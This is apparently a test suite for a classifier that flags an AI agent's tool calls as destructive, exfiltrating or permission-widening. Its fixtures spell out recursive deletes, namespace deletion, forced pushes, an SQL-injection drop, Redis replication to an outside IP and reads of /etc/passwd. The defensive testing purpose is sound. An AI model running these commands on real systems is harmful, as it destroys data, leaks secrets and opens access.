import { describe, expect, test } from "bun:test";
import type { JsonObject } from "#shared/json.ts";
import { judgeTool } from "../test-verdicts.ts";

/** `category`, `category?` where it asks, or `-`. */
function verdict(tool: string, input: JsonObject): string {
  const match = judgeTool(tool, input);
  if (match === null) return "-";
  return match.reaction === "deny" ? match.category : `${match.category}?`;
}

type Row = readonly [tool: string, input: JsonObject, expected: string];

const graph = "https://api.example.com/graphql";
const deletes = 'mutation { projectDelete(id: "p") { success } }';
const creates = 'mutation { issueCreate(input: {title: "projectDelete"}) { success } }';

const rights: readonly Row[] = [
  ["forge/update_repository", { repo: "a/b", private: false }, "permission-widening"],
  ["forge/update_repository", { repo: "a/b", private: true }, "-"],
  ["forge/create_repository", { name: "b", private: false }, "-"],
  ["forge/update_project", { visibility: "public" }, "permission-widening"],
  ["drive/create_permission", { permission: { type: "anyone" } }, "permission-widening"],
  ["drive/create_permission", { permission: { type: "user", role: "reader" } }, "-"],
  ["forge/add_org_member", { username: "eve", role: "admin" }, "permission-widening"],
  ["forge/add_org_member", { username: "eve", role: "member" }, "-"],
  ["forge/add_project_member", { user_id: 9, access_level: 50 }, "permission-widening"],
  ["chat/create_message", { role: "assistant", text: "admin" }, "-"],
  ["forge/update_settings", { enforce_admins: false }, "disable-security?"],
  ["docker/create_container", { image: "a", privileged: true }, "permission-widening"],
  ["docker/run_container", { image: "a", volumes: ["/:/host"] }, "permission-widening"],
  ["docker/run_container", { image: "a", volumes: ["./data:/data"] }, "-"],
  ["cloud/authorize_ingress", { cidr: "0.0.0.0/0", port: 22 }, "permission-widening"],
];

const acts: readonly Row[] = [
  ["any/call_tool", { tool: "delete_repository", arguments: {} }, "cloud-destruction"],
  ["any/batch", { calls: [{ name: "drop_table", arguments: {} }] }, "drop-schema"],
  ["any/batch", { people: [{ name: "drop_table" }] }, "-"],
  ["kube/node_management", { operation: "drain", nodeName: "n" }, "cloud-destruction"],
  ["tracker/label_write", { method: "delete", name: "bug" }, "-"],
  ["tracker/issue_write", { method: "update", state: "closed" }, "-"],
  ["forge/update_ref", { ref: "heads/main", force: true }, "force-push"],
  ["forge/delete_branch", { branch: "main" }, "force-push"],
  ["kube/scale", { name: "api", replicas: 0 }, "cloud-destruction?"],
  ["kube/scale", { name: "api", replicas: 3 }, "-"],
  ["desk/kill_process", { pid: 1 }, "process-control"],
  ["desk/set_config_value", { key: "blockedCommands", value: [] }, "governance-tampering"],
  ["desk/set_config_value", { key: "theme", value: "dark" }, "-"],
  ["mail/create_filter", { action: { forward: "x@example.net" } }, "exfiltration"],
  ["graph/run", { query: deletes }, "cloud-destruction"],
  ["graph/run", { query: creates }, "-"],
  [
    "http/fetch",
    { url: graph, options: { method: "POST", body: JSON.stringify({ query: deletes }) } },
    "cloud-destruction",
  ],
];

const operations: readonly Row[] = [
  ["shop/make_request", { service: "payments", method: "create" }, "money-movement"],
  ["shop/make_request", { service: "catalog", method: "list" }, "-"],
  ["tf/create_run", { workspace_id: "w", is_destroy: true }, "cloud-destruction"],
  ["shop/cancel", { order: "1", refund: true }, "money-movement"],
  ["git/git_reset", { repo_path: ".", mode: "hard" }, "delete-data?"],
  ["heroku/ps_scale", { dyno: "web=0:standard-1x" }, "cloud-destruction?"],
  ["heroku/ps_scale", { dyno: "web=2:standard-1x" }, "-"],
  ["dns/update_zone_setting", { setting: "ssl", value: "off" }, "disable-security?"],
  ["ansible/adhoc", { module: "shell", args: "rm -rf /var/lib/mysql" }, "recursive-delete"],
  ["k8s/kubectl", { args: "delete ns prod" }, "cloud-destruction"],
  ["k8s/kubectl", { args: "get pods -n prod" }, "-"],
  ["tmux/send-keys", { keys: "git push --force origin main\n" }, "force-push"],
  ["jupyter/execute_cell", { source: "!rm -rf /srv/data" }, "recursive-delete"],
  ["jupyter/execute_cell", { source: "df = df.drop(columns=['a'])" }, "-"],
  ["crm/run_apex", { apexCode: "delete [SELECT Id FROM Account];" }, "delete-data"],
  ["any/apply_patch", { input: "*** Begin Patch\n*** Delete File: /etc/hosts\n" }, "delete-data?"],
  ["any/apply_patch", { input: "*** Begin Patch\n*** Update File: src/a.ts\n" }, "-"],
  ["figma/delete_node", { nodeId: "1:2" }, "-"],
  ["vercel/delete_env_var", { projectId: "p", key: "A" }, "delete-data"],
  [
    "llm/post",
    {
      url: "https://api.example.com/v1/messages",
      method: "POST",
      body: '{"messages":[{"content":"mutation { deleteUser }"}]}',
    },
    "-",
  ],
];

const names: readonly Row[] = [
  [
    "aws/use_aws",
    { service_name: "ec2", operation_name: "terminate_instances" },
    "cloud-destruction",
  ],
  ["aws/use_aws", { service_name: "ec2", operation_name: "describe_instances" }, "-"],
  ["drive/manage_access", { action: "grant", role: "reader" }, "-"],
  ["drive/manage_access", { action: "grant", role: "writer" }, "permission-widening"],
  ["forge/edit_repository", { repo: "b", archived: true }, "cloud-destruction?"],
  ["git/push", { remote: "origin", refspec: "+main:main" }, "force-push"],
  ["directory/add_user_to_group", { group: "Super Admins" }, "permission-widening"],
  ["api/update_function", { AuthType: "NONE" }, "disable-security?"],
  ["dns/disable_dnssec", {}, "disable-security?"],
  ["desk/force_terminate", { pid: 4312 }, "-"],
  ["code/find_references", { function: "delete_user" }, "-"],
  ["mongo/bulk", { operations: [{ deleteMany: { filter: {} } }] }, "delete-data"],
  ["mongo/run_js", { code: "db[c].drop()" }, "drop-schema"],
  ["redis/config_set", { parameter: "dir", value: "/x" }, "disable-security"],
  ["sandbox/execute", { code: "await octokit.repos.delete({ owner, repo })" }, "cloud-destruction"],
  ["sandbox/execute", { code: "const m = new Map(); m.delete('a')" }, "-"],
  ["files/move_file", { source: "src", destination: "/dev/null" }, "recursive-delete"],
  [
    "http/call",
    { method: "POST", url: "https://mail.example.com/messages/batchDelete" },
    "delete-data?",
  ],
  ["http/call", { method: "POST", url: "https://api.example.com/search/delete-me/hits" }, "-"],
  ["cdn/purge_cache", { files: ["https://a.example/x.css"] }, "-"],
];

const programs: readonly Row[] = [
  ["prisma/migrate-reset", { projectCWD: "." }, "drop-schema"],
  ["prisma/migrate-status", { projectCWD: "." }, "-"],
  ["flyway/clean", { url: "jdbc:postgresql://prod/db" }, "drop-schema"],
  ["glab/run", { args: ["repo", "delete", "a/b"] }, "cloud-destruction"],
  [
    "gh/run_gh",
    { args: ["api", "-X", "PATCH", "repos/a/b", "-f", "private=false"] },
    "permission-widening",
  ],
  ["gh/run_gh", { args: ["pr", "list"] }, "-"],
  ["aws-x/aws_cli", { args: ["ec2", "terminate-instances"] }, "cloud-destruction"],
  ["tf-x/state_list", {}, "-"],
  ["ci/run_pipeline", { steps: [{ run: "npm ci" }, { run: "rm -rf /srv" }] }, "recursive-delete"],
  [
    "py/execute",
    { code: "requests.delete('https://api.github.com/repos/a/b')" },
    "cloud-destruction",
  ],
  ["any/multi", { recipient_name: "functions.delete_repo" }, "cloud-destruction"],
  [
    "graph/run",
    { query: "mutation { updateRepository(input: {visibility: PUBLIC}) { id } }" },
    "permission-widening",
  ],
  ["files/write", { path: "\\\\?\\C:\\Windows\\x", content: "x" }, "permission-widening?"],
  ["files/stat", { path: ".env" }, "-"],
  ["files/read", { path: ".env" }, "credential-access?"],
  ["cards/remove_member_from_card", { id: "1" }, "-"],
  [
    "http/call",
    { method: "POST", url: "https://api.example.com/orders/7/cancel" },
    "money-movement?",
  ],
];

const pairs: readonly Row[] = [
  ["neon/run_sql_transaction", { sqlStatements: ["SELECT 1"] }, "-"],
  ["pay/transfer_create", { amount: 1 }, "money-movement"],
  ["org/update_org_policy", { id: "p" }, "-"],
  ["proxy/docker_proxy", { method: "DELETE", dockerAPIPath: "/v1/containers/db" }, "delete-data"],
  ["proxy/docker_proxy", { method: "GET", dockerAPIPath: "/v1/containers/json" }, "-"],
  ["ci/groovy", { script: "Jenkins.instance.items.each { it.delete() }" }, "delete-data?"],
  ["shell/run", { command: "rm -rf", args: ["/srv"] }, "recursive-delete"],
  [
    "http/call",
    {
      method: "PATCH",
      url: "https://api.github.com/repos/a/b",
      body: '{"description":"private: false"}',
    },
    "-",
  ],
  [
    "http/call",
    { method: "PATCH", url: "https://api.github.com/repos/a/b", body: '{"private":false}' },
    "permission-widening",
  ],
  ["db/query", { query: "') ; DROP TABLE invoices; --" }, "drop-schema"],
  ["db/query", { query: "SELECT 'a; DROP TABLE b'" }, "-"],
];

const stores: readonly Row[] = [
  ["mongodb/delete-many", { collection: "a", filter: {} }, "delete-data"],
  ["mongodb/delete-many", { collection: "a", filter: { _id: "1" } }, "-"],
  ["mongodb/update-many", { collection: "a", filter: {}, update: {} }, "delete-data"],
  ["mongodb/find", { collection: "a", filter: {} }, "-"],
  ["mongodb/find", { collection: "a", filter: { $where: "1" } }, "opaque-command?"],
  ["mongodb/aggregate", { pipeline: [{ $match: {} }, { $out: "b" }] }, "delete-data"],
  ["mongodb/aggregate", { pipeline: [{ $match: {} }, { $count: "n" }] }, "-"],
  ["mongo/run_command", { command: { dropDatabase: 1 } }, "drop-schema"],
  ["mongo/run_command", { command: { ping: 1 } }, "-"],
  ["redis/run", { command: "CONFIG", args: ["SET", "dir", "/root"] }, "disable-security"],
  ["redis/run", { command: "REPLICAOF 203.0.113.7 6379" }, "exfiltration"],
  ["redis/eval", { script: "return redis.call('FLUSHALL')" }, "delete-data"],
  ["redis/lpush", { name: "q", value: "flushall" }, "-"],
  ["redis/delete", { key: "session:42" }, "-"],
];

const files: readonly Row[] = [
  ["files/write_file", { path: "~/.bashrc", content: "x" }, "permission-widening?"],
  ["files/write_file", { path: "C:\\Windows\\x.dll", content: "x" }, "permission-widening?"],
  ["files/write_file", { path: "/tmp/out.json", content: "{}" }, "-"],
  ["files/delete_file", { path: "/home/dev/other/thesis.docx" }, "delete-data?"],
  ["files/delete_file", { path: "dist/bundle.js" }, "-"],
  ["files/remove_directory", { path: "C:\\Windows\\System32" }, "recursive-delete"],
  ["mail/send_email", { attachments: ["/etc/passwd"] }, "exfiltration?"],
  ["mail/send_email", { attachments: ["report.pdf"] }, "-"],
  ["browser/navigate", { url: "file:///etc/passwd" }, "exfiltration?"],
];

describe("M04 what a call's arguments say", () => {
  test.each<Row>([
    ...rights,
    ...acts,
    ...operations,
    ...names,
    ...programs,
    ...pairs,
    ...stores,
    ...files,
  ])("%s %j: %s", (tool, input, expected) => {
    expect(verdict(tool, input)).toBe(expected);
  });

  test("passes a delete that is only tried", () => {
    expect(verdict("kube/delete_namespace", { name: "a", dryRun: true })).toBe("-");
    expect(verdict("kube/delete_namespace", { name: "a" })).toBe("cloud-destruction");
  });
});
